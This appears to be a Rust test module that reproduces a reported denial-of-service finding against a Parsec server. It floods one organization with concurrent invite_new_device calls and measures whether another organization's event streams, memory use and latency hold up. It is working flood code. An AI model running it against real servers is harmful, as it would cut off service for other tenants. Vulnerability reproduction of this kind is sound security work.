//! One organization floods events while another organization's stream is watched
//! (issue finding 3).
//!
//! Two organizations are bootstrapped. One stream is opened in A and [`B_STREAMS`] in B;
//! none is read while A's device calls `invite_new_device` `--count` times (default
//! 3,000; [`CONCURRENCY`] at a time), each call republishing the invitation event. Then
//! B's device publishes one event in B and B's streams are read: a stream survived if
//! that event arrives. Reported: the HTTP statuses of the flood, how many of B's streams
//! survived, the events they received, whether A's stream survived, peak memory and the
//! latency of a normal request during the flood.

use crate::target::{Figures, Target};
use parsec_client::bootstrap::{self, BootstrapIdentity};
use parsec_client::connection::Transport;
use parsec_protocol::addr::BootstrapAddr;
use parsec_protocol::auth::authenticated_header;
use parsec_protocol::cmds::authenticated::invite_new_device;
use parsec_protocol::crypto::OsRandom;
use parsec_protocol::device_file::LocalDevice;
use parsec_protocol::ids::HumanHandle;
use parsec_protocol::DateTime;
use std::collections::BTreeMap;
use std::sync::Arc;
use std::time::{Duration, Instant};

/// Concurrent flooding requests.
const CONCURRENCY: usize = 32;

/// Streams watched in organization B.
const B_STREAMS: usize = 200;

/// Attacks `target` and reports what it cost.
pub fn run(target: &Target) -> anyhow::Result<Figures> {
    tokio::runtime::Runtime::new()?.block_on(attack(target))
}

async fn attack(target: &Target) -> anyhow::Result<Figures> {
    let http = reqwest::Client::builder()
        .timeout(Duration::from_secs(60))
        .build()?;
    let a = bootstrap_org(target, &http, "FloodA").await?;
    let b = bootstrap_org(target, &http, "FloodB").await?;
    let (rss_before, _) = target.memory_kib()?;
    let base = target.server.http_url();
    let mut stream_a = open_stream(&base, &a).await?;
    let mut streams_b = Vec::with_capacity(B_STREAMS);
    for _ in 0..B_STREAMS {
        streams_b.push(open_stream(&base, &b).await?);
    }

    let count = target.count.unwrap_or(3_000);
    // `--seconds` caps the flood's duration.
    let until = target
        .seconds
        .map(|s| Instant::now() + Duration::from_secs(s));
    eprintln!(
        "{}: {count} invite_new_device calls in organization A",
        target.label
    );
    let started = Instant::now();
    let next = Arc::new(std::sync::atomic::AtomicUsize::new(0));
    let statuses = Arc::new(std::sync::Mutex::new(BTreeMap::<u16, usize>::new()));
    let workers: Vec<_> = (0..CONCURRENCY)
        .map(|_| {
            let (http, base, a) = (http.clone(), base.clone(), a.clone());
            let (next, statuses) = (next.clone(), statuses.clone());
            tokio::spawn(async move {
                while next.fetch_add(1, std::sync::atomic::Ordering::Relaxed) < count
                    && until.is_none_or(|u| Instant::now() < u)
                {
                    // 0: the request failed without an HTTP status.
                    let status = invite_device(&http, &base, &a).await.unwrap_or(0);
                    if let Ok(mut s) = statuses.lock() {
                        *s.entry(status).or_default() += 1;
                    }
                }
            })
        })
        .collect();
    let (p50, max) = target.normal_latency(20).await?;
    for w in workers {
        w.await?;
    }
    let flood_seconds = started.elapsed().as_secs_f64();

    // One event in B, then read B's stream.
    let b_status = invite_device(&http, &base, &b).await?;
    let mut b_events = 0;
    let mut b_survived = 0;
    let reads = streams_b
        .iter_mut()
        .map(|s| read_frames(s, Duration::from_secs(3)));
    for (events, open) in futures_util::future::join_all(reads).await {
        b_events += events;
        b_survived += usize::from(open && events > 0);
    }
    let (a_events, a_open) = read_frames(&mut stream_a, Duration::from_secs(3)).await;
    let (_, peak) = target.memory_kib()?;

    let mut extra = serde_json::Map::new();
    let statuses = statuses.lock().map(|s| s.clone()).unwrap_or_default();
    extra.insert(
        "flood_calls".into(),
        statuses.values().sum::<usize>().into(),
    );
    extra.insert("flood_seconds".into(), flood_seconds.into());
    extra.insert(
        "flood_statuses".into(),
        serde_json::to_value(
            statuses
                .iter()
                .map(|(k, v)| (k.to_string(), *v))
                .collect::<BTreeMap<_, _>>(),
        )?,
    );
    extra.insert("b_publish_status".into(), b_status.into());
    extra.insert("b_streams".into(), B_STREAMS.into());
    extra.insert("b_streams_survived".into(), b_survived.into());
    extra.insert("b_events_received".into(), b_events.into());
    extra.insert("a_stream_open_after".into(), a_open.into());
    extra.insert("a_events_received".into(), a_events.into());
    Ok(Figures {
        rss_before_kib: rss_before,
        peak_rss_kib: peak,
        open_files: target.open_files()?,
        normal_p50_ms: p50.as_secs_f64() * 1000.0,
        normal_max_ms: max.as_secs_f64() * 1000.0,
        extra,
        ..Figures::default()
    })
}

/// Creates and bootstraps an organization; returns its first device.
async fn bootstrap_org(
    target: &Target,
    http: &reqwest::Client,
    prefix: &str,
) -> anyhow::Result<LocalDevice> {
    let org = format!("{prefix}{}", std::process::id());
    let rep: serde_json::Value = http
        .post(format!(
            "{}/administration/organizations",
            target.server.http_url()
        ))
        .bearer_auth(target.server.admin_token())
        .json(&serde_json::json!({ "organization_id": org }))
        .send()
        .await?
        .error_for_status()?
        .json()
        .await?;
    let url = rep["bootstrap_url"]
        .as_str()
        .ok_or_else(|| anyhow::anyhow!("no bootstrap_url in {rep}"))?;
    let addr = BootstrapAddr::from_any(url)?;
    let identity = BootstrapIdentity {
        human_handle: HumanHandle::new("admin@example.com".parse()?, "Admin")?,
        device_label: "probe".parse()?,
        sequester_authority_der: None,
    };
    let prepared = bootstrap::prepare(&addr, &identity, &OsRandom::new(), DateTime::now());
    bootstrap::send(&Transport::new()?, &addr, &prepared).await?;
    Ok(prepared.device)
}

fn auth(device: &LocalDevice) -> String {
    authenticated_header(
        device.device_id,
        &device.signing_key,
        DateTime::now().as_secs(),
    )
}

/// `invite_new_device` by `device`: the HTTP status.
async fn invite_device(
    http: &reqwest::Client,
    base: &str,
    device: &LocalDevice,
) -> anyhow::Result<u16> {
    let body = invite_new_device::Req { send_email: false }.dump();
    let rep = http
        .post(format!("{base}/authenticated/{}", device.organization_id))
        .header("api-version", "5.5")
        .header("content-type", "application/msgpack")
        .header("authorization", auth(device))
        .body(body)
        .send()
        .await?;
    let status = rep.status().as_u16();
    rep.bytes().await?;
    Ok(status)
}

/// Opens the SSE stream of `device` (with a client without timeout) and reads its first
/// frame.
async fn open_stream(base: &str, device: &LocalDevice) -> anyhow::Result<reqwest::Response> {
    let mut rep = reqwest::Client::builder()
        .build()?
        .get(format!(
            "{base}/authenticated/{}/events",
            device.organization_id
        ))
        .header("api-version", "5.5")
        .header("accept", "text/event-stream")
        .header("authorization", auth(device))
        .send()
        .await?
        .error_for_status()?;
    anyhow::ensure!(
        tokio::time::timeout(Duration::from_secs(10), rep.chunk())
            .await??
            .is_some(),
        "the stream sent nothing"
    );
    Ok(rep)
}

/// Reads event frames (`id:` lines) for up to `idle` after the last one: how many, and
/// whether the stream was still open.
async fn read_frames(stream: &mut reqwest::Response, idle: Duration) -> (usize, bool) {
    let mut events = 0;
    loop {
        match tokio::time::timeout(idle, stream.chunk()).await {
            Ok(Ok(Some(chunk))) => {
                events += String::from_utf8_lossy(&chunk)
                    .lines()
                    .filter(|l| l.starts_with("id:"))
                    .count();
            }
            Ok(Ok(None) | Err(_)) => return (events, false),
            Err(_) => return (events, true),
        }
    }
}
